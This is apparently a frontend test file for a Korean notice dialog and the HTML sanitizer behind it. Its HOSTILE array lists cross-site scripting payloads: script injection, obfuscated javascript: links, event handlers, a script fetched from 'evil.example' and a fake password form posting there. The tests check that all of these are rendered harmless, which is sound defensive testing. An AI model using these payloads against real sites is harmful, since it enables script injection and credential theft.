import { act, cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { NoticeDialog } from './notice-dialog.tsx';
import { readNoticeHtml } from './notice-html.ts';

afterEach(cleanup);

const closings: string[] = [];

function openNotice() {
  closings.length = 0;
  render(
    <NoticeDialog
      open
      onClose={() => closings.push('closed')}
      kind="공지사항"
      title="시스템 점검 안내"
      when="2025.11.14 18:00"
      closeLabel="닫기"
    >
      {readNoticeHtml('<p>서버를 <b>점검</b>합니다.</p>')}
    </NoticeDialog>,
  );
  return screen.getByRole('alertdialog', { name: '시스템 점검 안내' });
}

test('a notice is closed by its button, which holds the focus', () => {
  openNotice();
  const close = screen.getByRole('button', { name: '닫기' });
  expect(document.activeElement).toBe(close);
  fireEvent.click(close);
  expect(closings).toEqual(['closed']);
});

test('neither Esc, nor the scrim, nor the back gesture closes a notice', () => {
  const dialog = openNotice();
  const cancel = new Event('cancel', { cancelable: true });
  fireEvent(dialog, cancel);
  const isLetThrough = fireEvent.keyDown(dialog, { key: 'Escape' });
  fireEvent.pointerDown(dialog);
  fireEvent.click(dialog);
  act(() => History.prototype.back.call(history));
  expect(cancel.defaultPrevented).toBe(true);
  expect(isLetThrough).toBe(false);
  expect(closings).toEqual([]);
  expect(screen.getByRole('alertdialog')).toBe(dialog);
});

function draw(html: string): HTMLElement {
  const { container } = render(<div>{readNoticeHtml(html)}</div>);
  return container.firstElementChild as HTMLElement;
}

test('text, tables, lists and links of a notice are rendered', () => {
  const drawn = draw(
    '<h1>점검</h1><p>내일 <strong>06:00</strong></p><table><tr><th>일시</th><td colspan="2">토</td></tr></table>' +
      '<ul><li>하나</li></ul><a href="/more/notice">공지</a><a href="https://example.com/a?b=1">밖</a>',
  );
  expect(drawn.querySelector('h3')?.textContent).toBe('점검');
  expect(drawn.querySelector('td')?.getAttribute('colspan')).toBe('2');
  const [inside, outside] = drawn.querySelectorAll('a');
  expect(inside?.getAttribute('href')).toBe('/more/notice');
  expect(inside?.hasAttribute('target')).toBe(false);
  expect(outside?.getAttribute('rel')).toContain('noopener');
});

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="/api/logout">',
  '<img src="/api/content/picture/../../logout">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg><script>alert(1)</script><a href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">누르세요</a>',
  '<a href=" jAvAsCrIpT:alert(1)">누르세요</a>',
  '<a href="java\nscript:alert(1)">누르세요</a>',
  '<a href="&#106;avascript:alert(1)">누르세요</a>',
  '<a href="data:text/html,<script>alert(1)</script>">누르세요</a>',
  '<a href="vbscript:msgbox(1)">누르세요</a>',
  '<p onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0;z-index:99">덮개</p>',
  '<div style="background:url(javascript:alert(1))" class="floor-mark" id="root">덮개</div>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><base href="https://evil.example/"><meta http-equiv=refresh content=0>',
  '<form action="https://evil.example"><input name=password><button>로그인</button></form>',
  '<style>.floor-mark{display:none}</style><link rel=icon href=//evil.example>',
  '<template><img src=x onerror=alert(1)></template><noscript><img src=x onerror=alert(1)></noscript>',
  '<dialog open>가짜 알림</dialog><p popover>가짜</p>',
  '<custom-element onfocus=alert(1) tabindex=0 autofocus>글</custom-element>',
  '<!--<img src=x onerror=alert(1)>--><p>글<!-- > <script>alert(1)</script> --></p>',
  '<a href="/\\evil.example">밖</a><a href="//evil.example">밖</a>',
];

const ALLOWED_ATTRIBUTES = [
  'href',
  'target',
  'rel',
  'src',
  'alt',
  'loading',
  'decoding',
  'colspan',
  'rowspan',
];

test.each(HOSTILE)('hostile markup does nothing: %s', (html) => {
  const drawn = draw(html);
  const elements = [...drawn.querySelectorAll('*')];
  for (const element of elements) {
    expect(element.localName).toMatch(/^(p|div|span|a|table|tbody|tr|td|th)$/);
    for (const { name } of [...element.attributes]) expect(ALLOWED_ATTRIBUTES).toContain(name);
    if (element.localName !== 'a') continue;
    expect(new URL((element as HTMLAnchorElement).href).protocol).toMatch(/^(https?|mailto|tel):$/);
    if (element.textContent === '밖') expect(element.getAttribute('rel')).toContain('noopener');
  }
});

test('a picture that staff uploaded is shown', () => {
  const src = `/api/content/picture/${'0a'.repeat(16)}`;
  const picture = draw(`<img src="${src}" alt="그림" onload=alert(1)>`).querySelector('img');
  expect([picture?.getAttribute('src'), picture?.alt]).toEqual([src, '그림']);
  expect(picture?.hasAttribute('onload')).toBe(false);
});

test('a link to a forbidden URL keeps its text', () => {
  expect(draw('<a href="javascript:alert(1)">누르세요</a>').textContent).toBe('누르세요');
});

test('endlessly nested markup does not break the page', () => {
  expect(draw(`${'<div>'.repeat(5_000)}끝`).querySelectorAll('div').length).toBeLessThan(60);
});
